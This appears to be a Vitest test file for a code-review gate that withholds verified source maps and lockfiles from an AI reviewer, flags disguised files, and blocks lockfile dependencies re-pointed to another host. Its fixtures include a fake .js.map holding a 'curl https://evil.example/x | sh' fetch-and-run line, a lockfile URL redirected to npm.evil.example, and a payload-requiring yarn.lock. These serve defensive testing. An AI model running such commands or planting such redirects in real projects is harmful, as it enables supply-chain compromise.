// `verdict-gate review` on a real git repository: what the gate withholds from the reviewer is decided
// by content, and a changed lockfile is checked against the base blob the diff names (`git cat-file`).
// The attacks of issue 18 item 1 and issue 12 item 6, end to end through the local round.
import { execFileSync } from "node:child_process";
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { runCaptured } from "../support/cli-io.js";
import { fakeReviewerCommand } from "../support/reviewers.js";

const NPM = readFileSync(
  path.join(import.meta.dirname, "..", "lockfile", "data", "npm-v3.package-lock.json"),
  "utf8",
);
const LODASH_URL = "https://registry.npmjs.org/lodash/-/lodash-4.17.21.tgz";
const MAP = '{"version":3,"file":"index.js","sources":["../src/index.ts"],"names":[],"mappings":"AAAA"}\n';

let dir: string;
let promptFile: string;
const git = (...args: string[]) => execFileSync("git", args, { cwd: dir, encoding: "utf8" });

beforeEach(() => {
  dir = mkdtempSync(path.join(os.tmpdir(), "vg-withheld-"));
  promptFile = path.join(dir, "..", `${path.basename(dir)}-prompt.txt`);
  mkdirSync(path.join(dir, "src"));
  writeFileSync(path.join(dir, "package-lock.json"), NPM);
  writeFileSync(path.join(dir, "src", "index.js"), "module.exports = 1;\n");
  git("init", "-q", "-b", "main");
  git("-c", "user.email=t@example.com", "-c", "user.name=t", "add", "-A");
  git("-c", "user.email=t@example.com", "-c", "user.name=t", "commit", "-qm", "base");
});
afterEach(() => {
  rmSync(dir, { recursive: true, force: true });
  rmSync(promptFile, { force: true });
});

/** The change as `git diff` prints it (staged, so new files are in it), with a source change beside
 * whatever the test changed: a round with nothing to review holds whatever else it finds. */
function stagedDiff(): string {
  writeFileSync(
    path.join(dir, "src", "index.js"),
    `${readFileSync(path.join(dir, "src", "index.js"), "utf8")}// more\n`,
  );
  git("add", "-A");
  return git("diff", "--cached");
}

async function review(diff: string, extra: string[] = []) {
  return runCaptured(["review", "--command", fakeReviewerCommand("approve-bound"), "--json", ...extra], {
    readStdin: async () => Buffer.from(diff, "utf8"),
    stdoutIsTTY: false,
    stdinIsTTY: false,
    env: { PATH: process.env.PATH ?? "", FAKE_REVIEWER_STDIN: promptFile },
    cwd: dir,
  });
}

const prompt = () => readFileSync(promptFile, "utf8");

describe("review: what the gate withholds is proven by content", () => {
  it("reviews a .js.map that is JavaScript, and withholds (but names) a real source map", async () => {
    writeFileSync(path.join(dir, "src", "index.js"), 'require("./errors.js.map");\nmodule.exports = 1;\n');
    writeFileSync(
      path.join(dir, "src", "errors.js.map"),
      'require("child_process").execSync("curl https://evil.example/x | sh");\n',
    );
    mkdirSync(path.join(dir, "dist"));
    writeFileSync(path.join(dir, "dist", "index.js.map"), MAP);
    const r = await review(stagedDiff());
    const json = JSON.parse(r.out);
    expect(prompt()).toContain('+require("child_process").execSync("curl https://evil.example/x | sh");');
    expect(prompt()).toContain('- "dist/index.js.map": a source map (its content was verified to be one)');
    expect(prompt()).not.toContain('"mappings":"AAAA"');
    expect(json.notes.join("\n")).toMatch(
      /src\/errors\.js\.map matches the default exclude `\*\.js\.map` but was reviewed: it is not a source map: not JSON/,
    );
    expect(json.coverage).toBe("100% of the files in scope; withheld: 1 source map (verified by content)");
  });
});

describe("review: a changed lockfile is checked against the base blob", () => {
  it("blocks (exit 3) a dependency re-pointed at another host, naming file, package and URL", async () => {
    writeFileSync(
      path.join(dir, "package-lock.json"),
      NPM.replace(LODASH_URL, "https://npm.evil.example/lodash/-/lodash-4.17.21.tgz"),
    );
    const r = await review(stagedDiff());
    expect(r.code, r.err).toBe(3);
    const json = JSON.parse(r.out);
    expect(json.status).toBe("blocked");
    expect(json.parts.map((p: { name: string }) => p.name)).toContain("lockfiles");
    expect(json.reasons[0]).toMatch(
      /^package-lock\.json: lodash@4\.17\.21 resolves to https:\/\/npm\.evil\.example\/lodash\/-\/lodash-4\.17\.21\.tgz/,
    );
    // Withheld from the reviewer (content proven), checked by the gate.
    expect(prompt()).not.toContain("npm.evil.example");
    expect(prompt()).toContain('- "package-lock.json": a lockfile');
  });

  it("tells the reviewer the packages a lockfile adds, which no check can judge", async () => {
    writeFileSync(
      path.join(dir, "package-lock.json"),
      NPM.replace(
        '"node_modules/lodash": {',
        `"node_modules/evil-pkg": {\n      "version": "6.6.6",\n      "resolved": "https://registry.npmjs.org/evil-pkg/-/evil-pkg-6.6.6.tgz",\n      "integrity": "sha512-${Buffer.alloc(64, 9).toString("base64")}"\n    },\n    "node_modules/lodash": {`,
      ),
    );
    await review(stagedDiff());
    expect(prompt()).toMatch(/- "package-lock\.json": a lockfile .*; this change: adds evil-pkg@6\.6\.6\n/);
  });

  it("approves a lockfile change that stays on the base's registry", async () => {
    writeFileSync(path.join(dir, "package-lock.json"), NPM.replace('"license": "MIT",', '"license": "ISC",'));
    const r = await review(stagedDiff());
    expect(r.code, r.err).toBe(0);
    const json = JSON.parse(r.out);
    expect(json.coverage).toBe(
      "100% of the files in scope; withheld: 1 lockfile (checked deterministically)",
    );
  });

  it("holds (exit 4) when the base blob is not in the repository: not checked is not checked", async () => {
    writeFileSync(path.join(dir, "package-lock.json"), NPM.replace('"license": "MIT",', '"license": "ISC",'));
    const diff = stagedDiff().replace(/^index [0-9a-f]+\.\./m, "index 1234567..");
    const r = await review(diff);
    expect(r.code, r.err).toBe(4);
    expect(JSON.parse(r.out).needed.join("\n")).toMatch(
      /package-lock\.json was not checked: the base commit's package-lock\.json could not be read \(git cannot read the base blob 1234567/,
    );
  });

  it("holds (exit 4) on a yarn.lock that is not a lockfile, and shows it to the reviewer", async () => {
    writeFileSync(path.join(dir, "yarn.lock"), 'module.exports = require("./payload");\n');
    const r = await review(stagedDiff());
    expect(r.code, r.err).toBe(4);
    expect(JSON.parse(r.out).needed.join("\n")).toMatch(/yarn\.lock cannot be read as a Yarn lockfile/);
    expect(prompt()).toContain('+module.exports = require("./payload");');
  });
});
